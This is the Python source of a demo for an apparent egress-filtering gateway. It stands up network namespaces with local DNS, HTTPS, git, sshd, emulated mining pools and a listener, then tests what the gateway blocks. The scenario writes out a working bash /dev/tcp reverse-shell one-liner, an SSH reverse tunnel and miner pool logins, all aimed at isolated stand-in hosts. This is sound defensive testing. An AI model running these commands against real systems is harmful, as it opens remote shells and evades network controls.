"""Live demo (root): a sandbox, an egress gateway and the outside world in network namespaces.

`egress demo [--rules FILE] [--model DIR] [--keep DIR]`

Builds sbx/gw/ext namespaces (private addresses that exist only inside them), starts
`egress run` in gw, starts real servers in ext (DNS, an HTTPS file server, git's smart
HTTP server, OpenSSH's sshd, emulated Stratum and XMRig pools, a listener waiting for a
reverse shell), then runs a scripted scenario from the sandbox and prints, per step,
what happened (did the program succeed? did the server receive anything?) and why
(the gateway's verdict, rule and detections from its EVE log). Everything is removed at
the end, also on Ctrl-C or failure. Bounded: about 30 s, never more than ~60 s.
"""
from __future__ import annotations

import argparse
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[2]
PY = sys.executable


def add_arguments(p: argparse.ArgumentParser) -> None:
    p.add_argument("--rules", action="append", default=[], metavar="FILE",
                   help="policy for the gateway (default: rules/default.yaml)")
    p.add_argument("--model", metavar="DIR", help="classifier bundle (default: models/default when present)")
    p.add_argument("--no-model", action="store_true", help="run without the classifier")
    p.add_argument("--keep", metavar="DIR", help="copy the EVE log, the gateway's log and the servers' records here")


@dataclass
class Step:
    name: str
    dest: tuple[str, int, str]          # (address, port, proto) the flows of this step go to
    outcome: str = "not run"
    ok: bool | None = None              # did the sandbox program get what it wanted?
    flows: list = field(default_factory=list)


def run(args: argparse.Namespace) -> int:
    if os.geteuid() != 0:
        print("egress: the demo needs root (network namespaces, iptables, NFQUEUE)", file=sys.stderr)
        return 2
    missing = [t for t in ("ip", "iptables", "ip6tables", "openssl", "git", "curl") if shutil.which(t) is None]
    if missing:
        print("egress: the demo needs %s on PATH" % ", ".join(missing), file=sys.stderr)
        return 2
    rules = args.rules or [str(REPO_ROOT / "rules" / "default.yaml")]
    model = None if args.no_model else (args.model or _default_model())
    from egress.drivers.netns import Topology

    workdir = Path(tempfile.mkdtemp(prefix="egress-demo-"))
    os.chmod(workdir, 0o755)
    started = time.monotonic()
    # SIGTERM (e.g. from a CI timeout) cleans up like Ctrl-C does.
    previous = signal.signal(signal.SIGTERM, _interrupt)
    try:
        with Topology() as topo:
            demo = Demo(topo, workdir, rules, model)
            steps = demo.run()
            _report(steps, demo, rules, model, time.monotonic() - started)
            if args.keep:
                shutil.copytree(workdir, args.keep, dirs_exist_ok=True)
            return 0 if all(s.ok is not None for s in steps) else 1
    except KeyboardInterrupt:
        print("egress: demo interrupted; namespaces and processes removed", file=sys.stderr)
        return 130
    except Exception as exc:
        print("egress: demo failed: %s: %s (namespaces and processes removed)" % (type(exc).__name__, exc),
              file=sys.stderr)
        return 1
    finally:
        signal.signal(signal.SIGTERM, previous)
        shutil.rmtree(workdir, ignore_errors=True)


def _interrupt(*_):
    raise KeyboardInterrupt


def _default_model() -> str | None:
    path = REPO_ROOT / "models" / "default"
    return str(path) if path.is_dir() and any(path.iterdir()) else None


class Demo:
    def __init__(self, topo, workdir: Path, rules: list[str], model: str | None):
        self.topo = topo
        self.work = workdir
        self.rules = rules
        self.model = model
        a = topo.addr
        self.web, self.git_ip, self.pool_ip, self.xmr_ip = a.ext4, None, None, None
        self.gateway = None
        self.eve = workdir / "eve.json"

    # -- set-up ---------------------------------------------------------------------------

    def run(self) -> list[Step]:
        self._prepare_files()
        self._start_servers()
        self._start_gateway()
        steps = self._scenario()
        self._stop_gateway()
        events = [json.loads(l) for l in self.eve.read_text().splitlines() if l.strip()] if self.eve.exists() else []
        for step in steps:
            ip, port, proto = step.dest
            step.flows = [e for e in events if e["event_type"] == "flow" and e["dest_ip"] == ip
                          and e["dest_port"] == port and e["proto"] == proto]
        return steps

    def _prepare_files(self) -> None:
        from egress.drivers.servers import make_cert
        self.cert, self.key = make_cert(str(self.work), ["files.egress.test", "git.egress.test"])
        www = self.work / "www"
        www.mkdir()
        self.blob = os.urandom(2_000_000)
        (www / "model.bin").write_bytes(self.blob)
        src = self.work / "src"
        src.mkdir()
        git = ["git", "-C", str(src), "-c", "user.name=demo", "-c", "user.email=demo@egress.test"]
        subprocess.run(git[:3] + ["init", "-q"], check=True)
        (src / "README").write_text("a repository cloned through the egress gateway\n")
        subprocess.run(git + ["add", "README"], check=True)
        subprocess.run(git + ["commit", "-qm", "first"], check=True)
        (self.work / "git").mkdir()
        subprocess.run(["git", "clone", "-q", "--bare", str(src), str(self.work / "git" / "tools.git")], check=True)
        ssh = self.work / "ssh"
        ssh.mkdir()
        for name in ("host", "user"):
            subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(ssh / name)], check=True)
        (ssh / "authorized_keys").write_text((ssh / "user.pub").read_text())
        os.chmod(ssh / "authorized_keys", 0o600)

    def _server(self, argv: list[str], ready: str = "ready") -> None:
        proc = self.topo.popen("ext", argv, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        line = proc.stdout.readline()
        if ready not in line:
            raise RuntimeError("a server did not start: %s" % " ".join(argv[:4]))

    def _start_servers(self) -> None:
        t, ext = self.topo, self.topo.addr.ext4
        self.git_ip, self.pool_ip, self.xmr_ip = t.add_ext_address(1), t.add_ext_address(2), t.add_ext_address(3)
        srv = [PY, "-m", "egress.drivers.servers"]
        rec = lambda name: ["--record", str(self.work / (name + ".jsonl")), "--duration", "60"]
        self._server(srv + ["dns", "--host", ext, "--zone", "files.egress.test=" + ext,
                            "--zone", "git.egress.test=" + self.git_ip] + rec("dns"))
        self._server(srv + ["https", "--host", ext, "--port", "443", "--cert", self.cert, "--key", self.key,
                            "--root", str(self.work / "www")] + rec("https"))
        self._server(srv + ["git", "--host", self.git_ip, "--port", "443", "--cert", self.cert, "--key", self.key,
                            "--root", str(self.work / "git")] + rec("git"))
        self._server(srv + ["listen", "--host", ext, "--port", "4444", "--send", "id\\n", "--idle", "4"] + rec("listener"))
        for module, ip, port in (("stratum", self.pool_ip, 3333), ("xmr", self.xmr_ip, 443)):
            self._server([PY, "-m", "egress.sim." + module, "pool", "--listen", "%s:%d" % (ip, port),
                          "--duration", "60", "--job-interval", "0.5"] + rec("pool-" + module)[:2], ready="listening")
        ssh = self.work / "ssh"
        (ssh / "sshd_config").write_text(
            "Port 22\nListenAddress %s\nHostKey %s\nAuthorizedKeysFile %s\nPasswordAuthentication no\n"
            "KbdInteractiveAuthentication no\nUsePAM no\nPermitRootLogin prohibit-password\nStrictModes no\n"
            "AllowTcpForwarding yes\nPidFile none\n" % (ext, ssh / "host", ssh / "authorized_keys"))
        os.makedirs("/run/sshd", exist_ok=True)
        if shutil.which("sshd") or os.path.exists("/usr/sbin/sshd"):
            t.popen("ext", ["/usr/sbin/sshd", "-D", "-e", "-f", str(ssh / "sshd_config")],
                    stdout=subprocess.DEVNULL, stderr=open(self.work / "sshd.log", "w"))
        t.set_resolver("sbx", ext)

    def _start_gateway(self) -> None:
        argv = [PY, "-m", "egress.cli", "run", "--sandbox-iface", self.topo.sbx_iface, "--eve", str(self.eve),
                "--metrics", "127.0.0.1:9108", "-v"]
        for r in self.rules:
            argv += ["--rules", r]
        if self.model:
            argv += ["--model", self.model]
        self.gateway_log = self.work / "gateway.log"
        log = open(self.gateway_log, "w")
        self.gateway = self.topo.popen("gw", argv, stdout=subprocess.DEVNULL, stderr=log)
        deadline = time.monotonic() + 20
        while "egress: ready" not in self.gateway_log.read_text():
            if self.gateway.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError("the gateway did not start: " + self.gateway_log.read_text().strip()[-300:])
            time.sleep(0.05)

    def _stop_gateway(self) -> None:
        self.gateway.send_signal(signal.SIGTERM)
        self.gateway.wait(15)

    # -- the scenario ------------------------------------------------------------------------

    def sbx(self, *argv: str, timeout: float = 15.0) -> subprocess.CompletedProcess:
        try:
            return self.topo.run("sbx", *argv, check=False, timeout=timeout)
        except subprocess.TimeoutExpired:
            return subprocess.CompletedProcess(argv, 124, "", "timed out")

    def _records(self, name: str) -> list[dict]:
        from egress.drivers.servers import read_record
        return read_record(str(self.work / (name + ".jsonl")))

    def _miner(self, name: str, sim: str, ip: str, port: int, record: str, blocked: str) -> Step:
        """Run one of the project's miner emulators from the sandbox; the pool's record says
        whether any message got through."""
        step = Step(name, (ip, port, "TCP"))
        self.sbx(PY, "-m", "egress.sim." + sim, "client", "--connect", "%s:%d" % (ip, port),
                 "--duration", "3", "--share-interval", "0.3", timeout=10)
        got = [r["msg"].get("method") for r in self._records(record) if r.get("dir") == "in"]
        step.ok = True
        step.outcome = ("pool received %s" % ", ".join(sorted(set(filter(None, got))))) if got else blocked
        return step

    def _scenario(self) -> list[Step]:
        ext = self.topo.addr.ext4
        steps = []

        step = Step("DNS lookup of files.egress.test", (ext, 53, "UDP"))
        r = self.sbx("getent", "ahostsv4", "files.egress.test", timeout=5)
        step.ok = ext in r.stdout
        step.outcome = "resolved to %s" % ext if step.ok else "no answer"
        steps.append(step)

        step = Step("HTTPS download (2 MB)", (ext, 443, "TCP"))
        r = self.sbx("sh", "-c", "curl -sS --max-time 15 --cacert %s https://files.egress.test/model.bin | sha256sum"
                     % self.cert, timeout=20)
        step.ok = r.stdout.split()[:1] == [hashlib.sha256(self.blob).hexdigest()]
        step.outcome = "complete, sha256 intact" if step.ok else "failed: %s" % (r.stderr.strip()[-60:] or "bad data")
        steps.append(step)

        step = Step("git clone over HTTPS", (self.git_ip, 443, "TCP"))
        dest = self.work / "clone"
        r = self.sbx("env", "GIT_SSL_CAINFO=" + self.cert, "GIT_TERMINAL_PROMPT=0", "timeout", "15", "git", "clone",
                     "-q", "https://git.egress.test/tools.git", str(dest), timeout=20)
        step.ok = (dest / "README").exists()
        step.outcome = "cloned (README present)" if step.ok else "failed: %s" % r.stderr.strip()[-60:]
        steps.append(step)

        steps.append(self._miner("Stratum miner -> pool :3333", "stratum", self.pool_ip, 3333,
                                 "pool-stratum", "blocked: the pool never received a login"))
        steps.append(self._miner("XMRig-style login -> :443", "xmr", self.xmr_ip, 443,
                                 "pool-xmr", "blocked: the pool never received the login"))

        step = Step("ssh -R 9999:localhost:22 (OpenSSH)", (ext, 22, "TCP"))
        ssh = self.work / "ssh"
        r = self.sbx("timeout", "8", "ssh", "-i", str(ssh / "user"), "-o", "StrictHostKeyChecking=no",
                     "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5",
                     "-o", "ExitOnForwardFailure=yes", "-o", "LogLevel=ERROR", "-R", "9999:127.0.0.1:22",
                     "root@" + ext, "echo", "tunnel-up", timeout=12)
        step.ok = True
        err = r.stderr.lower()
        step.outcome = ("tunnel established" if "tunnel-up" in r.stdout else
                        "failed: connection reset" if "reset" in err else
                        "failed: timed out" if r.returncode == 124 or "timed out" in err else
                        "failed: ssh exited %d" % r.returncode)
        steps.append(step)

        step = Step("reverse shell (sh over TCP :4444)", (ext, 4444, "TCP"))
        self.sbx("timeout", "5", "bash", "-c", "exec 3<>/dev/tcp/%s/4444; sh <&3 >&3 2>&3" % ext, timeout=8)
        time.sleep(0.3)
        got = "".join(r.get("received", "") for r in self._records("listener") if r.get("kind") == "conn")
        step.ok = True
        step.outcome = "listener got: %s" % got.strip()[:40] if "uid=" in got else \
            "blocked: the listener's `id` never ran"
        steps.append(step)
        return steps


def _ml_text(ml: dict) -> str:
    """The classifier's class, and its top score when that names another class (the class
    can stay benign below a threshold); a flow with too few payload packets to count as
    evidence was not scored at all."""
    if ml.get("evidence") == "insufficient":
        return "not scored (too little evidence)"
    scores = ml.get("scores", {})
    text = "%s %.2f" % (ml["class"], scores.get(ml["class"], 0.0))
    top = max(scores, key=scores.get, default=ml["class"])
    if top != ml["class"]:
        text += " (top: %s %.2f)" % (top, scores[top])
    return text


def _report(steps: list[Step], demo: Demo, rules: list[str], model: str | None, seconds: float) -> None:
    a = demo.topo.addr
    w = sys.stdout.write
    w("egress demo: sandbox %s -> gateway (egress run: %s; model: %s) -> outside %s/24\n\n" % (
        a.sbx4, ", ".join(os.path.relpath(r) for r in rules), model or "none", a.ext4.rsplit(".", 1)[0] + ".0"))
    rows = [("step", "what happened", "verdict", "rule", "detections")]
    for s in steps:
        actions = sorted({f["verdict"]["action"] for f in s.flows}) or ["-"]
        rules_hit = sorted({f["verdict"]["rule"] for f in s.flows}) or ["-"]
        dets = sorted({"%s/%s" % (d["category"], d["signature"]) for f in s.flows for d in f.get("detections", [])})
        ml = sorted({_ml_text(f["ml"]) for f in s.flows if f.get("ml")})
        rows.append((s.name, s.outcome, ",".join(actions), ",".join(rules_hit),
                     ", ".join(dets + ["ml: " + m for m in ml]) or "-"))
    widths = [max(len(r[i]) for r in rows) for i in range(4)]
    for r in rows:
        w("  " + "  ".join(c.ljust(widths[i]) for i, c in enumerate(r[:4])) + "  " + r[4] + "\n")
    w("\n%d flows logged as EVE JSON; finished in %.1f s; namespaces, rules and processes removed.\n" % (
        sum(len(s.flows) for s in steps), seconds))
